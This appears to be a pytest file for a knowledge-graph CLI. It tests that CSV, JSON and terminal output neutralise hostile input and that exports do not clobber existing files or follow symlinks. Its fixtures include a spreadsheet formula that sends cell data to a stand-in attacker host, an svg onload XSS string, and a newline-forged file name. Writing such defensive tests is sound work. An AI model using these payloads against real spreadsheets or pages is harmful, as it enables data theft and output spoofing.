"""Outputs a hostile document cannot turn against its reader: spreadsheets, files written, the terminal."""

from __future__ import annotations

import csv

from conftest import EXAMPLES

from kg.exports.csvout import write_csv
from kg.ingest import parse_bytes

EXAMPLE = sorted(EXAMPLES.glob("*.txt"))[0]


def _doc_with_project_name(name: str):
    doc = parse_bytes(EXAMPLE.read_bytes(), "x.txt").document
    first = doc.projects[0].model_copy(update={"name": name})
    return doc.model_copy(update={"projects": (first, *doc.projects[1:])})


def test_csv_cells_that_start_like_a_formula_are_neutralised(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    doc = _doc_with_project_name(formula)
    write_csv([doc], tmp_path / "out")
    with open(tmp_path / "out" / "kg_projects.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["name"] == "'" + formula  # shown as text by Excel/LibreOffice, not evaluated
    assert all(not r[k].startswith(("=", "+", "@")) for r in rows for k in r if r[k])
    assert rows[1]["name"] == doc.projects[1].name  # ordinary names untouched


def test_html_entities_in_source_text_stay_text(tmp_path):
    text = EXAMPLE.read_text(encoding="utf-8")
    name = next(p.name for p in parse_bytes(EXAMPLE.read_bytes(), "x.txt").document.projects if p.name in text)
    hostile = text.replace(name, name + "&lt;svg onload=alert(1)&gt;&#60;b&#x3E;&amp;")
    doc = parse_bytes(hostile.encode("utf-8"), "x.txt").document
    from kg.exports.jsonout import export_json

    exported = export_json([doc])
    assert "<svg" not in exported and "<b>" not in exported
    names = [p.name for p in doc.projects]
    assert any("&lt;svg onload=alert(1)&gt;" in n for n in names), names


def test_markup_and_control_characters_in_names_paths_and_queries_are_shown_as_text(tmp_path, monkeypatch):
    """`[/x]` in a path, `[/b]` in a project name or a query, a newline in a file name: no crash, no forged line."""
    from typer.testing import CliRunner

    from kg.cli import app

    runner = CliRunner()
    folder = tmp_path / "[" / "x]"  # the path reads `…/[/x]/…`
    folder.mkdir(parents=True)
    doc = parse_bytes(EXAMPLE.read_bytes(), "x.txt").document
    name = next(p.name for p in doc.projects if p.name in EXAMPLE.read_text(encoding="utf-8"))
    hostile_name = name + "[/b][bold red]"
    text = EXAMPLE.read_text(encoding="utf-8").replace(name, hostile_name)
    (folder / "forged\n✓ evil.txt  added  layout=x.txt").write_text(text, encoding="utf-8")
    monkeypatch.setenv("KG_HOME", str(tmp_path / "home"))
    result = runner.invoke(app, ["ingest", str(folder)])
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.stdout and "forged\\n✓ evil.txt" in result.stdout
    assert len([line for line in result.stdout.splitlines() if line.startswith("✓")]) == 1  # no forged line
    for args in (["search", "[/x]"], ["search", hostile_name], ["show", hostile_name], ["neighbors", hostile_name],
                 ["check"], ["stats"], ["policy", "[/b]"], ["path", "[/x]", hostile_name]):
        result = runner.invoke(app, args)
        assert result.exception is None or isinstance(result.exception, SystemExit), (args, result.exception)
        assert "Traceback" not in result.output and "internal error" not in result.output, (args, result.output)
    shown = runner.invoke(app, ["show", hostile_name])
    assert shown.exit_code == 0 and "[/b][bold red]" in shown.stdout
    found = runner.invoke(app, ["search", hostile_name, "--type", "project"])
    assert found.exit_code == 0 and "[/b]" in found.stdout  # a table cell may wrap the rest
    import json

    hits = json.loads(runner.invoke(app, ["search", hostile_name, "--type", "project", "--json"]).stdout)["hits"]
    assert hits[0]["label"] == hostile_name


def test_exports_never_replace_a_file_without_force_and_are_written_whole(tmp_path, monkeypatch, use_home):
    from typer.testing import CliRunner

    from kg.cli import app

    runner = CliRunner()
    out = tmp_path / "b.json"
    out.write_text("precious", encoding="utf-8")
    refused = runner.invoke(app, ["export", "--format", "json", "--output", str(out)])
    assert refused.exit_code == 2 and "--force" in refused.stderr
    assert out.read_text(encoding="utf-8") == "precious"
    target = tmp_path / "target.txt"
    target.write_text("not yours", encoding="utf-8")
    link = tmp_path / "link.json"
    link.symlink_to(target)
    assert runner.invoke(app, ["export", "--format", "json", "--output", str(link)]).exit_code == 2
    assert runner.invoke(app, ["export", "--format", "json", "--output", str(link), "--force"]).exit_code == 0
    assert target.read_text(encoding="utf-8") == "not yours" and not link.is_symlink()  # the link replaced, not its file
    assert runner.invoke(app, ["export", "--format", "json", "--output", str(out), "--force"]).exit_code == 0
    assert out.read_text(encoding="utf-8").startswith("{") or out.read_text(encoding="utf-8").startswith("[")

    import errno

    import kg.exports.jsonout as jsonout

    def full_disk(*a, **k):
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(jsonout, "export_json", full_disk)
    before = out.read_bytes()
    failed = runner.invoke(app, ["export", "--format", "json", "--output", str(out), "--force"])
    assert failed.exit_code != 0
    assert out.read_bytes() == before  # the previous export is intact, not half-written
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temporary file left behind
    assert runner.invoke(app, ["viz", "--policy", "泽组通字[2022]31号", "--output", str(out)]).exit_code == 2
